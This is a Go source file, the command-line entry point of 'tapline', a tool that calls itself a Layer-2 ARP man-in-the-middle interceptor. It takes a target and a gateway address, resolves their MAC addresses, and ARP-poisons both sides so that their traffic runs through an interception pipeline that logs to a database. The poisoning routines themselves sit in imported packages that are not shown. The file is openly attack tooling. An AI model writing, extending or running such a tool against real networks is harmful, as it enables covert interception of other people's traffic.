package main

import (
	"context"
	"errors"
	"fmt"
	"net"
	"net/http"
	"os"
	"os/signal"
	"syscall"
	"time"

	"github.com/prometheus/client_golang/prometheus/promhttp"
	"github.com/spf13/cobra"
	"go.uber.org/zap"

	"github.com/tapline/tapline"
	"github.com/tapline/tapline/arpwire"
	"github.com/tapline/tapline/config"
	"github.com/tapline/tapline/datalink"
	"github.com/tapline/tapline/internal/netutil"
	"github.com/tapline/tapline/store"
)

var (
	inputIface  string
	outputIface string
	targetIP    string
	gatewayIP   string
	configPath  string

	spoofInterval time.Duration
	arpDeadline   time.Duration
	dnsCacheSize  int
	metricsAddr   string
	dbPath        string

	rootCmd = &cobra.Command{
		Use:     "tapline",
		Short:   "Layer-2 ARP man-in-the-middle interceptor",
		Example: "tapline -i eth0 -o eth1 --target-ip 192.0.2.10 --gateway-ip 192.0.2.1",
		RunE:    runTapline,
	}
)

func init() {
	rootCmd.Flags().StringVarP(&inputIface, "input", "i", "", "network interface facing the target")
	rootCmd.Flags().StringVarP(&outputIface, "output", "o", "", "network interface facing the gateway")
	rootCmd.Flags().StringVar(&targetIP, "target-ip", "", "IPv4 address of the host to impersonate the gateway to")
	rootCmd.Flags().StringVar(&gatewayIP, "gateway-ip", "", "IPv4 address of the host to impersonate the target to")
	rootCmd.Flags().StringVar(&configPath, "config", "", "path to a TOML config file")
	rootCmd.Flags().DurationVar(&spoofInterval, "spoof-interval", 0, "poisoning cadence (overrides config)")
	rootCmd.Flags().DurationVar(&arpDeadline, "arp-deadline", 0, "ARP query deadline (overrides config)")
	rootCmd.Flags().IntVar(&dnsCacheSize, "dns-cache-size", 0, "reverse DNS cache capacity (overrides config)")
	rootCmd.Flags().StringVar(&metricsAddr, "metrics-addr", "", "host:port to serve /metrics on; unset disables the listener")
	rootCmd.Flags().StringVar(&dbPath, "db", "", "sqlite database path (overrides config)")

	for _, name := range []string{"input", "output", "target-ip", "gateway-ip"} {
		if err := rootCmd.MarkFlagRequired(name); err != nil {
			fmt.Fprintf(os.Stderr, "%s is required\n", name)
			os.Exit(2)
		}
	}
}

func main() {
	if err := rootCmd.Execute(); err != nil {
		os.Exit(exitCodeFor(err))
	}
}

// exitCodeFor maps a run failure onto the CLI's documented exit codes: 0
// never reaches here (Execute only returns non-nil on error), 1 for
// interface-open failures, 2 for persistence failures, 1 for anything else.
func exitCodeFor(err error) int {
	var openErr *datalink.InterfaceOpenError
	if errors.As(err, &openErr) {
		return 1
	}
	var persistErr *store.PersistenceError
	if errors.As(err, &persistErr) {
		return 2
	}
	return 1
}

func runTapline(cmd *cobra.Command, args []string) error {
	cfg, err := config.Load(configPath)
	if err != nil {
		return fmt.Errorf("loading config: %w", err)
	}
	applyFlagOverrides(&cfg)

	log, err := netutil.NewLogger(cfg.LogLevel, nil, nil)
	if err != nil {
		return fmt.Errorf("initializing logger: %w", err)
	}
	defer log.Sync()

	target := net.ParseIP(targetIP).To4()
	if target == nil {
		return fmt.Errorf("invalid --target-ip %q", targetIP)
	}
	gateway := net.ParseIP(gatewayIP).To4()
	if gateway == nil {
		return fmt.Errorf("invalid --gateway-ip %q", gatewayIP)
	}

	inIPv4, inMAC, err := ifaceIPv4(inputIface)
	if err != nil {
		return &datalink.InterfaceOpenError{Interface: inputIface, Err: err}
	}
	outIPv4, outMAC, err := ifaceIPv4(outputIface)
	if err != nil {
		return &datalink.InterfaceOpenError{Interface: outputIface, Err: err}
	}

	deadline := cfg.ArpQueryDeadlineDuration()
	inLocal := arpwire.NetworkLocation{IPv4: inIPv4, MAC: inMAC}
	outLocal := arpwire.NetworkLocation{IPv4: outIPv4, MAC: outMAC}

	log.Info("resolving target and gateway mac addresses")
	inEndpoint, err := tapline.ResolveEndpoint(inputIface, inLocal, target, deadline, log)
	if err != nil {
		return err
	}
	outEndpoint, err := tapline.ResolveEndpoint(outputIface, outLocal, gateway, deadline, log)
	if err != nil {
		return err
	}

	pipeline, err := tapline.New(tapline.Options{
		Input:  inEndpoint,
		Output: outEndpoint,
		Config: cfg,
	}, log)
	if err != nil {
		return err
	}

	targetLocation := arpwire.NetworkLocation{IPv4: target, MAC: inEndpoint.PeerMAC}
	gatewayLocation := arpwire.NetworkLocation{IPv4: gateway, MAC: outEndpoint.PeerMAC}
	pipeline.PoisonInputSide(gatewayLocation, inMAC, targetLocation)
	pipeline.PoisonOutputSide(targetLocation, outMAC, gatewayLocation)

	if metricsAddr != "" {
		stopMetrics := serveMetrics(metricsAddr, log)
		defer stopMetrics()
	}

	ctx, cancel := signal.NotifyContext(context.Background(), os.Interrupt, syscall.SIGTERM)
	defer cancel()

	log.Info("starting pipeline",
		zap.String("input", inputIface), zap.String("output", outputIface),
		zap.String("target", target.String()), zap.String("gateway", gateway.String()))

	return pipeline.Run(ctx)
}

func applyFlagOverrides(cfg *config.File) {
	if spoofInterval > 0 {
		cfg.SpoofInterval = spoofInterval.String()
	}
	if arpDeadline > 0 {
		cfg.ArpQueryDeadline = arpDeadline.String()
	}
	if dnsCacheSize > 0 {
		cfg.DnsCacheCapacity = dnsCacheSize
	}
	if dbPath != "" {
		cfg.DatabasePath = dbPath
	}
	if metricsAddr != "" {
		cfg.MetricsAddr = metricsAddr
	} else {
		metricsAddr = cfg.MetricsAddr
	}
}

// serveMetrics starts a background HTTP listener exposing /metrics and
// returns a func that shuts it down. Listener failures are logged, not
// fatal: tapline keeps running without a scrape endpoint.
func serveMetrics(addr string, log *zap.Logger) func() {
	mux := http.NewServeMux()
	mux.Handle("/metrics", promhttp.Handler())
	srv := &http.Server{Addr: addr, Handler: mux}

	go func() {
		if err := srv.ListenAndServe(); err != nil && !errors.Is(err, http.ErrServerClosed) {
			log.Error("metrics listener failed", zap.String("addr", addr), zap.Error(err))
		}
	}()

	return func() {
		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
		defer cancel()
		if err := srv.Shutdown(ctx); err != nil {
			log.Warn("metrics listener shutdown error", zap.Error(err))
		}
	}
}

// ifaceIPv4 looks up iface's first non-loopback IPv4 address and its
// hardware address.
func ifaceIPv4(name string) (net.IP, net.HardwareAddr, error) {
	iface, err := net.InterfaceByName(name)
	if err != nil {
		return nil, nil, fmt.Errorf("looking up interface %s: %w", name, err)
	}
	addrs, err := iface.Addrs()
	if err != nil {
		return nil, nil, fmt.Errorf("reading addresses for %s: %w", name, err)
	}
	for _, a := range addrs {
		n, ok := a.(*net.IPNet)
		if !ok || n.IP.IsLoopback() {
			continue
		}
		if ip4 := n.IP.To4(); ip4 != nil {
			return ip4, iface.HardwareAddr, nil
		}
	}
	return nil, nil, fmt.Errorf("interface %s has no ipv4 address", name)
}
